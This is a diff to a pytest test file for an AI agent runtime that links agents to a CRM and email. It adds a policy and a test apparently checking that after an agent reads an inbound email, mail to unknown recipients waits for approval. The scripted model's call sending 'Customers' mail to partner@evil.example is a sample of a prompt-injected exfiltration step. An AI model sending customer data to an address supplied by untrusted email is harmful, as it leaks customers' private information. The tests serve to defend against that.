@@ -139,18 +139,29 @@ def _write_config(
                 tool: email.send
                 when: args.to.all(r, r.endsWith("@{domain}"))
                 approval: never
+          desk:
+            may_act_for: [role:sales]
+            tools:
+              - {{tool: "crm.read_party"}}
+              - {{tool: email.read_inbox}}
+              - id: desk-mail
+                tool: email.send
+                untrusted: allow
+                approval:
+                  when: run.untrusted && !args.to.all(r, r in run.known_contacts)
         """)
     )
-    (base / "seller.yaml").write_text(
-        "name: seller\nmodel: scripted:none.yaml\npolicy: policy.yaml\n"
-    )
+    for name in ("seller", "desk"):
+        (base / f"{name}.yaml").write_text(
+            f"name: {name}\nmodel: scripted:none.yaml\npolicy: policy.yaml\n"
+        )
     path = base / "tether.yaml"
     path.write_text(
         textwrap.dedent(f"""\
         database: sqlite:///{base / "tether.db"}
         keys: {base / "keys"}
         policy: policy.yaml
-        agents: [seller.yaml]
+        agents: [seller.yaml, desk.yaml]
         connectors:
           - type: tryton
             settings:
@@ -254,3 +265,52 @@ def test_an_injected_email_cannot_steer_the_agent(world: World) -> None:
     assert (
         world.count("account.invoice", [("type", "=", "out"), ("total_amount", "<", 0)]) == credited
     )
+
+
+@pytest.mark.slow
+def test_after_an_inbound_email_only_known_contacts_get_mail_without_approval(
+    world: World,
+) -> None:
+    model = world.script(
+        "contacts",
+        f"""\
+        turns:
+          - text: Reading the inbox.
+            calls: [{{tool: email.read_inbox}}]
+          - text: Looking the customer up in the CRM.
+            calls: [{{tool: crm.read_party, args: {{party_id: {world.party_id}}}}}]
+          - text: Answering the customer, and the address the email gave.
+            calls:
+              - tool: email.send
+                args: {{to: ["{world.party_email}"], subject: Re your order, body: "On its way."}}
+              - tool: email.send
+                args: {{to: [partner@evil.example], subject: Customers, body: "..."}}
+          - text: Done.
+        """,
+    )
+    rt = world.runtime
+    run = rt.wait(rt.start("desk", "answer the inbox", principal="sam", model=model).id)
+    assert run.status == "waiting_approval"
+    assert run.untrusted
+    assert world.party_email in run.known_contacts  # vouched for by the CRM read
+    (raw,) = world.outbox.messages()
+    assert message_from_bytes(raw)["To"] == world.party_email
+    (request,) = rt.approvals.find(run_id=run.id)
+    assert request.tool == "email.send"
+    assert request.args["to"] == ["partner@evil.example"]
+
+
+def test_tryton_tools_can_be_marked_untrusted(monkeypatch: pytest.MonkeyPatch) -> None:
+    from tether.connectors.tryton import toolset
+    from tether.errors import ConfigurationError
+
+    monkeypatch.setenv(PASSWORD_ENV, "unused")
+    settings = {"url": "http://127.0.0.1:9/", "database": "demo"}
+    tools = toolset({**settings, "untrusted_output": ["crm.list_opportunities"]})
+    assert tools.get("crm.list_opportunities").untrusted_output
+    assert not tools.get("crm.read_party").untrusted_output
+    read_party = tools.get("crm.read_party")
+    assert read_party.contacts is not None
+    assert list(read_party.contacts({"email": "a@b.example"})) == ["a@b.example"]
+    with pytest.raises(ConfigurationError, match="unknown tools"):
+        toolset({**settings, "untrusted_output": ["crm.nope"]})
